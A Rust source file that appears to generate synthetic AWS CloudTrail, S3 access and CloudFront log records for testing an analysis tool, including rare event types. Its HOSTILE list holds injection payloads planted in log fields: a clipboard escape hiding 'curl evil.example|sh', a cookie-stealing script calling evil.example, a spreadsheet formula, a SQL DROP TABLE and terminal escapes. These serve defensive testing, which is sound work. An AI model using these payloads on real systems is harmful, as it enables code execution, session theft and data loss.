//! Records of the rarer kinds, and values written to harm whoever looks at them.

use serde_json::{Value, json};

use crate::cloudfront::Visit;
use crate::cloudtrail::{Deed, Event};
use crate::s3_access::Line;
use crate::story::Story;
use crate::world::{ASSETS, BROWSER, DEV, HOME, INTRUDER_IP2, PROD, Who, at, iso};

fn raw(folder: &'static str, account: &'static str, time: i64, id: &str, record: &Value) -> Event {
    Event { account, folder, region: HOME, time, late: 0, id: id.to_owned(), text: record.to_string() }
}

/// An Insight pair, a denied call at a VPC endpoint, an aggregated event, root at the console, an old correction.
pub(crate) fn tell(story: &mut Story) {
    let shared = story.ids.uuid();
    for (state, time) in [("Start", at("04-09 01:19:00")), ("End", at("04-09 01:33:00"))] {
        let id = story.ids.uuid();
        let attribution = |name: &str, value: &str| json!({"attribute": name, "insight": [{"value": value, "average": 4.4}], "baseline": [{"value": "arn:aws:iam::444455556666:user/anna", "average": 0.01}]});
        let record = json!({
            "eventVersion": "1.07", "eventTime": iso(time), "awsRegion": HOME, "eventID": id,
            "eventType": "AwsCloudTrailInsight", "recipientAccountId": DEV, "sharedEventID": shared,
            "insightDetails": {
                "state": state, "eventSource": "iam.amazonaws.com", "eventName": "ListUsers",
                "insightType": "ApiErrorRateInsight", "errorCode": "AccessDenied",
                "insightContext": {
                    "statistics": {"baseline": {"average": 0.02}, "insight": {"average": 4.4}, "insightDuration": 14, "baselineDuration": 10_080},
                    "attributions": [
                        attribution("userIdentityArn", "arn:aws:iam::444455556666:user/ci-deploy"),
                        attribution("userAgent", crate::world::KALI_AGENT),
                    ],
                },
            },
            "eventCategory": "Insight",
        });
        story.keep(
            &format!("insight_{}", state.to_lowercase()),
            &format!("CloudTrail Insights: {state} of an unusual rate of errors"),
            raw("CloudTrail-Insight", DEV, time, &id, &record),
        );
    }
    let (id, time) = (story.ids.uuid(), at("04-10 05:10:31"));
    let record = json!({
        "eventVersion": "1.09",
        "userIdentity": {"type": "AWSAccount", "principalId": "AROAEXAMPLEPARTNER:session", "accountId": "222233334444"},
        "eventTime": iso(time), "eventSource": "s3.amazonaws.com", "eventName": "PutObject", "awsRegion": HOME,
        "sourceIPAddress": "10.0.1.25", "errorCode": "VpceAccessDenied",
        "errorMessage": "The request was denied due to a VPC endpoint policy", "requestID": story.ids.upper_hex(16),
        "eventID": id, "readOnly": false, "resources": [{"ARN": "arn:aws:s3:::s3-mirror-tmp/x.gz", "type": "AWS::S3::Object"}],
        "eventType": "AwsVpceEvent", "managementEvent": false, "recipientAccountId": PROD, "sharedEventID": story.ids.uuid(),
        "vpcEndpointId": "vpce-0a1b2c3d4e5f60718", "vpcEndpointAccountId": PROD, "eventCategory": "NetworkActivity",
    });
    story.keep(
        "vpc_endpoint_denied",
        "A VPC endpoint denies a write to the foreign bucket",
        raw("CloudTrail-NetworkActivity", PROD, time, &id, &record),
    );

    let (id, time) = (story.ids.uuid(), at("04-09 22:10:00"));
    let statistic = |name: &str, value: u32| json!({"name": name, "value": value});
    let record = json!({
        "eventVersion": "1.0", "accountId": PROD, "eventId": id, "eventCategory": "Aggregated",
        "eventType": "AwsAggregatedEvent", "awsRegion": HOME, "eventSource": "s3.amazonaws.com",
        "timeWindow": {"windowStart": iso(time), "windowEnd": iso(time + 300), "windowSize": "PT5M"},
        "summary": {
            "primaryDimension": {"dimension": "eventName", "statistics": [statistic("GetObject", 24)], "aggregationType": "Count"},
            "details": [{"dimension": "resourceARN", "statistics": [statistic("arn:aws:s3:::acme-customer-exports", 24)], "aggregationType": "Count"}],
        },
    });
    story.keep(
        "aggregated",
        "An aggregated event about the reads of five minutes",
        raw("CloudTrail-Aggregated", PROD, time, &id, &record),
    );

    let root = Who {
        identity: json!({"type": "Root", "principalId": PROD, "arn": format!("arn:aws:iam::{PROD}:root"), "accountId": PROD, "accessKeyId": ""}),
        arn: format!("arn:aws:iam::{PROD}:root"),
        key: String::new(),
        ip: "192.0.2.21",
        agent: BROWSER,
    };
    let mut deed = Deed::new(&root, PROD, at("03-03 10:11:12"), "signin", "ConsoleLogin");
    (deed.event_type, deed.version) = ("AwsConsoleSignIn", "1.06");
    deed.response = json!({"ConsoleLogin": "Success"});
    deed.more = json!({"additionalEventData": {"LoginTo": "https://console.aws.amazon.com/billing/home", "MobileVersion": "No", "MFAUsed": "Yes"}});
    let event = deed.event(&mut story.ids);
    story.keep("root_login", "The root user logs in with MFA to look at a bill (harmless)", event);

    let mut deed = Deed::new(&root, PROD, at("03-03 10:14:40"), "iam", "GetAccountSummary");
    deed.tail = json!({"addendum": {"reason": "UPDATED_DATA", "updatedFields": "responseElements", "originalRequestID": story.ids.uuid(), "originalEventID": story.named["root_login"]}});
    let event = deed.event(&mut story.ids);
    story.keep("addendum", "A correction that CloudTrail delivered for an earlier event (harmless)", event);
}

/// Values that attack a terminal, a browser, a spreadsheet, a SQL console or a parser of columns.
pub(crate) const HOSTILE: [&str; 9] = [
    "\u{1b}]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\u{7}",
    "\u{1b}]8;;https://evil.example/\u{1b}\\click here\u{1b}]8;;\u{1b}\\",
    "\u{1b}[2J\u{1b}[1;31mALL CLEAN\u{1b}[0m",
    "report\u{202e}gpj.exe",
    "=cmd|' /C calc'!A0",
    "<script>fetch('https://evil.example/'+document.cookie)</script>",
    "![x](https://evil.example/p.png)",
    "'; DROP TABLE cloudtrail; --",
    "| a | b |\r\n| - | - |\n# heading",
];

/// The hostile values, in user agents and keys of CloudTrail, S3 and CloudFront. Returns where: (source, id).
pub(crate) fn hostile(story: &mut Story) -> Vec<(&'static str, String)> {
    let mut places = Vec::new();
    let stranger = Who::user(DEV, "ci-deploy", crate::world::CI_KEY, INTRUDER_IP2, "-");
    for (number, value) in HOSTILE.iter().enumerate() {
        let time = at("04-09 01:34:00") + number as i64 * 13;
        let mut who = stranger.clone();
        who.agent = value;
        let mut deed = Deed::new(&who, DEV, time, "s3", "GetObject").denied("AccessDenied");
        deed.request = json!({"bucketName": "acme-artifacts", "key": format!("probe/{value}")});
        deed.data = true;
        places.push(("cloudtrail", story.act("", "", &deed)));
    }
    let percent = |text: &str, keep: fn(u8) -> bool| -> String {
        text.bytes().map(|b| if keep(b) { char::from(b).to_string() } else { format!("%{b:02X}") }).collect()
    };
    // S3 writes agents and referrers as they come: the second value pretends to be the end of the line.
    let agents = [
        "Mozilla/5.0 \"quoted\" agent".to_owned(),
        format!(
            "curl/8\" - {} SigV4 TLS_AES_128_GCM_SHA256 AuthHeader evil.example TLSv1.3 - - us-east-1",
            "A".repeat(76)
        ),
        HOSTILE[5].to_owned(),
        HOSTILE[4].to_owned(),
        HOSTILE[7].to_owned(),
        format!("{} [S3Console/0.4]", HOSTILE[2]),
        String::new(),
    ];
    for (number, agent) in agents.into_iter().enumerate() {
        let key = percent(HOSTILE[number], |b| b.is_ascii_alphanumeric() || b"-_./*".contains(&b));
        let mut line = Line::get(at("04-09 23:10:00") + number as i64 * 7, ASSETS, &key, 0, &mut story.ids);
        line.uri = format!("GET /{key}?id=452\"\" HTTP/1.1");
        (line.status, line.error, line.auth, line.agent) = (403, "AccessDenied", "-", agent);
        line.sent = 243;
        line.ip = INTRUDER_IP2.to_owned();
        line.referrer = ["-", "https://acme.example/\" \"inner", HOSTILE[6]][number % 3].to_owned();
        places.push(("s3_access", line.request_id.clone()));
        story.lines.push(line);
    }
    for (number, value) in HOSTILE.iter().enumerate() {
        let text = percent(value, |b| (0x21..0x7f).contains(&b) && !b"<>\"#%{}|\\^~[]`'".contains(&b));
        let time = at("04-10 12:20:00") + number as i64 * 5;
        let mut visit = Visit::new(time, INTRUDER_IP2, &format!("/search/{text}"), 512, &mut story.ids);
        visit.agent = text.replace('%', "%25");
        visit.query = format!("q={text}&bad=%");
        visit.referrer = format!("https://evil.example/{text}");
        visit.status = [403, 404, 0][number % 3];
        places.push(("cloudfront", visit.request_id.clone()));
        story.visits.push(visit);
    }
    places
}
